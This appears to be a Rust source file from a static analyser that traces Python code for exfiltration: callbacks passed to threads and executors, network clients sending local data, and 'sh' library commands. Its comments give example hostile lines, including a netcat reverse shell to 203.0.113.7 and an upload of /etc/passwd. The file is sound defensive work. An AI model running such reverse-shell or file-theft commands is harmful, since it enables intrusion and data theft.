//! Calls made on the program's behalf (issue 26, seventh pass: behaviour over library).
//!
//! - A function handed to another to be called later is called with the arguments handed with
//!   it: `Thread(target=f, args=(x,))`, `Process(...)`, `map(f, xs)`, `functools.partial(f, x)`,
//!   `executor.submit(f, x)`, `loop.run_in_executor(None, f, x)`, `asyncio.to_thread(f, x)`,
//!   `atexit.register(f, x)`, `threading.Timer(t, f, args)`, `sched.enter(t, p, f, argument)`.
//! - An object made with a network address (a URL, an IP address, `host:port`, a `host=` keyword)
//!   is a network client, whatever its library: what its methods are given goes to that address.
//!   Local data among a method's arguments, or a local file named by one, is a send.
//! - The `sh` library runs a program named by the attribute (`sh.nc(host, port, e="/bin/sh")`).

use super::walker::Walker;
use crate::effects::Found;
use crate::facts::{Call, Expr, Taints, Value};
use airlock_protocol::request::Language;
use ruff_python_ast::{self as ast, ArgOrKeyword};

/// Labels of data that must not leave (as AIR-BEHAVIOUR-EXFILTRATION counts them).
const LOCAL_DATA: &[&str] = &[
    "sensitive_file",
    "environment",
    "system_file",
    "local_data",
    "system_info",
    "process_list",
    "clipboard",
    "screen",
    "keystrokes",
];

/// Keywords under which a library takes the host it talks to.
const HOST_KEYWORDS: &[&str] = &[
    "host",
    "hostname",
    "server",
    "broker",
    "brokers",
    "bootstrap_servers",
    "endpoint",
    "endpoint_url",
    "url",
    "base_url",
    "address",
    "addr",
    "uri",
    "dsn",
];

impl<'t> Walker<'_, '_, '_, 't> {
    /// The labels of data that must not leave the machine.
    pub(super) fn local_labels(&self) -> Taints {
        LOCAL_DATA
            .iter()
            .fold(Taints::NONE, |t, l| t.union(self.ctx.rules.label(l)))
    }

    /// Calls the function a higher-order call is handed, with the arguments handed with it.
    pub(super) fn call_through(&mut self, node: &'t ast::ExprCall, call: &Call, depth: u32) {
        let name = call.name.as_str();
        let last = name.rsplit('.').next().unwrap_or(name);
        let positional = |i: usize| node.arguments.args.get(i);
        let keyword = |k: &str| {
            node.arguments
                .keywords
                .iter()
                .find(|kw| kw.arg.as_ref().is_some_and(|a| a.as_str() == k))
                .map(|kw| &kw.value)
        };
        let seq = |e: Option<&Expr>| match e.map(|e| &e.value) {
            Some(Value::Seq(items)) => items.clone(),
            _ => e.map(|e| vec![e.clone()]).unwrap_or_default(),
        };
        let rest = |from: usize| call.args.iter().skip(from).cloned().collect::<Vec<_>>();
        let (target, arguments): (Option<&'t ast::Expr>, Vec<Vec<Expr>>) = match name {
            "threading.Thread" | "multiprocessing.Process" | "multiprocessing.context.Process" => {
                (keyword("target"), vec![seq(call.kwarg("args"))])
            }
            "threading.Timer" => (
                positional(1).or_else(|| keyword("function")),
                vec![seq(call.args.get(2).or_else(|| call.kwarg("args")))],
            ),
            "map" | "builtins.map" => {
                // Each element of a known sequence (up to 8), else one element of it.
                let items = match call.args.get(1).map(|a| &a.value) {
                    Some(Value::Seq(items)) => items.iter().take(8).map(|i| vec![i.clone()]).collect(),
                    _ => vec![vec![Expr::other(call.args.get(1).map_or(Taints::NONE, |a| a.taints))]],
                };
                (positional(0), items)
            }
            "functools.partial" | "asyncio.to_thread" | "atexit.register" => (positional(0), vec![rest(1)]),
            _ if last == "submit" || last == "call_soon" || last == "call_soon_threadsafe" => {
                (positional(0), vec![rest(1)])
            }
            _ if last == "run_in_executor" || last == "call_later" => (positional(1), vec![rest(2)]),
            _ if last == "apply_async" || last == "apply" && name.contains("Pool") => (
                positional(0),
                vec![seq(call.args.get(1).or_else(|| call.kwarg("args")))],
            ),
            "sched.scheduler.enter" | "sched.scheduler.enterabs" => (
                positional(2).or_else(|| keyword("action")),
                vec![seq(call.args.get(3).or_else(|| call.kwarg("argument")))],
            ),
            _ => return,
        };
        let Some(target) = target else { return };
        for args in arguments {
            self.call_function(target, args, call, depth);
        }
    }

    /// Calls `target` (a name or an attribute) with `args`, as a call at `outer`'s place.
    fn call_function(&mut self, target: &'t ast::Expr, args: Vec<Expr>, outer: &Call, depth: u32) {
        let taints = args.iter().fold(Taints::NONE, |t, a| t.union(a.taints));
        let callee = match target {
            ast::Expr::Name(f) => {
                let id = f.id.as_str();
                if let Some(definition) = self.program.functions.get(id).copied() {
                    let mut inner = Call::new(id.to_string(), outer.span);
                    inner.args = args;
                    inner.taints = taints;
                    self.follow(id, definition, &inner, None, depth);
                    return;
                }
                match self.names.get(id) {
                    Some(super::walker::Bound::Module(q)) => q.clone(),
                    Some(super::walker::Bound::Var(e)) => match &e.value {
                        Value::Name(q) => q.clone(),
                        _ => return,
                    },
                    None => id.to_string(),
                }
            }
            ast::Expr::Attribute(f) => self.reference(f, depth).0,
            _ => return,
        };
        let mut inner = Call::new(callee, outer.span);
        inner.args = args;
        inner.taints = taints;
        if let Some(embedded) = self.ctx.rules.embedded(Language::Python, &inner) {
            self.extract_embedded(embedded, outer.span);
        }
        let found = self.ctx.rules.effects.python_effects(&inner);
        self.ctx.record_effects(Language::Python, found);
        self.ctx.python.push_call(inner);
    }

    /// `c.setopt(c.URL, "https://...")`: an object given an address by a method becomes a network
    /// client (its later calls send to it).
    pub(super) fn configure_client(&mut self, node: &'t ast::ExprCall) {
        let ast::Expr::Attribute(function) = &*node.func else {
            return;
        };
        let ast::Expr::Name(object) = &*function.value else {
            return;
        };
        let network = self.ctx.rules.label("network");
        if let Some(super::walker::Bound::Var(value)) = self.names.get_mut(object.id.as_str()) {
            value.taints = value.taints.union(network);
        }
    }

    /// Whether a call is given a network address: then what it makes is a network client.
    pub(super) fn names_an_address(&self, call: &Call) -> bool {
        fn literal(e: &Expr) -> Option<&str> {
            match &e.value {
                Value::Str(t) => Some(t.as_str()),
                _ => None,
            }
        }
        call.args.iter().take(2).filter_map(literal).any(is_address)
            || call.kwargs.iter().any(|(k, v)| {
                literal(v).is_some_and(|t| is_address(t) || (HOST_KEYWORDS.contains(&k.as_str()) && looks_like_host(t)))
            })
    }

    /// A method of a network client (or a call given an address) handed local data or a local
    /// file: a send to that address, for a library the call table does not describe.
    pub(super) fn client_send(
        &mut self,
        node: &'t ast::ExprCall,
        call: &Call,
        found: &[Found],
        addressed: bool,
    ) -> Vec<Found> {
        // A call the table describes is what the table says.
        if !found.is_empty() {
            return Vec::new();
        }
        let network = self.ctx.rules.label("network");
        // A method of a client, a call given a client (`send(IP(dst=ADDR) / Raw(data))`), or a
        // call given an address.
        let on_client = call.receiver.as_ref().is_some_and(|r| r.taints.intersects(network))
            || call.all_args().any(|a| a.taints.intersects(network));
        if !on_client && !addressed {
            return Vec::new();
        }
        // Reading a reply, closing, logging in: not a send of what the call is given.
        let method = call.name.rsplit('.').next().unwrap_or_default();
        if matches!(
            method,
            "close" | "login" | "quit" | "logout" | "recv" | "read" | "get" | "select" | "settimeout" | "connect"
        ) && call.args.iter().all(|a| a.taints.is_empty())
        {
            return Vec::new();
        }
        let local = self.local_labels();
        // A local file named by a method that moves it (`put`, `upload`, `send`, `attach`, a
        // setting: `setopt(HTTPPOST, [(.., FORM_FILE, path)])`); one that loads or opens a file
        // for the client itself (`load_host_keys(path)`) keeps it here.
        let moves_files = {
            let lower = method.to_ascii_lowercase();
            [
                "put", "upload", "send", "post", "push", "publish", "append", "write", "store", "emit", "submit",
                "set", "add", "insert", "save", "sync", "copy", "transfer", "attach", "file", "document", "photo",
            ]
            .iter()
            .any(|verb| lower.contains(verb))
                && !lower.starts_with("load")
                && !lower.starts_with("read")
        };
        let mut out = Vec::new();
        let mut data = false;
        for argument in call.all_args() {
            if argument.taints.intersects(local) {
                data = true;
            }
            if !moves_files {
                continue;
            }
            // A local file named by a literal path outside the working directory, also inside a
            // list or tuple (`[("f", (c.FORM_FILE, "/etc/passwd"))]`).
            let mut paths = Vec::new();
            literal_paths(argument, 0, &mut paths);
            for path in paths {
                let mut read = Call::new("@read".into(), call.span);
                read.via = vec![call.name.clone()];
                read.taints = path.taints;
                read.args.push(path);
                out.push(Found { call: read, code: None });
                data = true;
            }
        }
        if !data {
            return Vec::new();
        }
        let destination = call
            .all_args()
            .find(|a| a.text().is_some_and(|t| is_address(&t)))
            .cloned()
            .or_else(|| call.receiver.clone())
            .unwrap_or_else(|| Expr::new(Value::Str(String::new())));
        let mut send = Call::new("@send".into(), call.span);
        send.via = vec![call.name.clone()];
        send.taints = call.taints;
        send.args.push(destination);
        if let Some(data) = call
            .all_args()
            .find(|a| a.trail.is_some() && a.taints.intersects(local))
        {
            send.args.push(data.clone());
        }
        let _ = node;
        out.push(Found { call: send, code: None });
        out
    }

    /// `sh.nc("203.0.113.7", "4444", e="/bin/sh")`: the `sh` library runs the program named by
    /// the attribute, keywords as options.
    pub(super) fn sh_library_command(&mut self, node: &'t ast::ExprCall, call: &Call) {
        let Some(program) = call.name.strip_prefix("sh.") else {
            return;
        };
        if program.contains('.') || program == "Command" || program.starts_with('_') {
            return;
        }
        let imports_sh = self
            .ctx
            .python
            .imports
            .iter()
            .any(|i| i.name == "sh" || i.name.starts_with("sh."));
        if !imports_sh {
            return;
        }
        let mut argv = vec![Expr::new(Value::Str(program.replace('_', "-")))];
        let mut positional = call.args.iter();
        for argument in node.arguments.iter_source_order() {
            match argument {
                ArgOrKeyword::Arg(_) => {
                    if let Some(value) = positional.next() {
                        argv.push(value.clone());
                    }
                }
                ArgOrKeyword::Keyword(keyword) => {
                    let Some(key) = &keyword.arg else { continue };
                    let key = key.as_str();
                    if key.starts_with('_') {
                        continue;
                    }
                    let Some(value) = call.kwarg(key) else { continue };
                    if key.len() == 1 {
                        argv.push(Expr::new(Value::Str(format!("-{key}"))));
                    } else {
                        argv.push(Expr::new(Value::Str(format!("--{}", key.replace('_', "-")))));
                    }
                    if !matches!(value.value, Value::Bool(true)) {
                        argv.push(value.clone());
                    }
                }
            }
        }
        crate::shell::command_from_argv(self.ctx, argv, call.span);
    }
}

/// Literal paths outside the working directory (absolute or in a home) in a value or the
/// sequences it holds (three levels deep).
fn literal_paths(value: &Expr, depth: u32, out: &mut Vec<Expr>) {
    match &value.value {
        // (A path under the machine's top directories: `/v1/items` given to an HTTP client is a
        // URL's path, not a file.)
        Value::Str(text) | Value::Path(text) if names_local_file(text) => {
            out.push(value.clone());
        }
        Value::Seq(items) if depth < 3 => {
            for item in items.iter().take(16) {
                literal_paths(item, depth + 1, out);
            }
        }
        _ => {}
    }
}

fn names_local_file(text: &str) -> bool {
    const TOP: &[&str] = &[
        "etc", "home", "root", "var", "usr", "proc", "sys", "opt", "srv", "boot", "dev", "mnt", "media", "lib", "bin",
        "sbin", "run", "Users", "private", "tmp",
    ];
    if text.contains(char::is_whitespace) {
        return false;
    }
    if text.starts_with("~/") {
        return text.len() > 2;
    }
    let Some(rest) = text.strip_prefix('/') else {
        return false;
    };
    let top = rest.split('/').next().unwrap_or_default();
    TOP.contains(&top) && rest.len() > top.len() + 1
}

/// A network address written out: a URL with a scheme, an IPv4 address (with a port), or
/// `host:port`.
fn is_address(text: &str) -> bool {
    let text = text.trim();
    // (Most strings are neither: no colon, and not an IPv4 address.)
    let may_be_ip = text.len() <= 15 && text.as_bytes().first().is_some_and(u8::is_ascii_digit);
    if !text.contains(':') && !may_be_ip {
        return false;
    }
    if let Some((scheme, rest)) = text.split_once("://") {
        return !scheme.is_empty()
            && scheme.chars().all(|c| c.is_ascii_alphanumeric() || c == '+')
            && !rest.is_empty()
            && scheme != "file";
    }
    let host = text.split_once(':').map_or(text, |(h, _)| h);
    let port = text.split_once(':').map(|(_, p)| p);
    is_ipv4(host) && port.is_none_or(|p| !p.is_empty() && p.len() <= 5 && p.chars().all(|c| c.is_ascii_digit()))
        || port.is_some_and(|p| !p.is_empty() && p.len() <= 5 && p.chars().all(|c| c.is_ascii_digit()))
            && looks_like_host(host)
}

fn is_ipv4(text: &str) -> bool {
    let parts: Vec<&str> = text.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

fn looks_like_host(text: &str) -> bool {
    let host = text.split_once(':').map_or(text, |(h, _)| h);
    !host.is_empty()
        && (is_ipv4(host)
            || host == "localhost"
            || (host.contains('.')
                && !host.starts_with('.')
                && !host.ends_with('.')
                && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
                && host
                    .rsplit('.')
                    .next()
                    .is_some_and(|tld| tld.chars().all(|c| c.is_ascii_alphabetic()))))
}
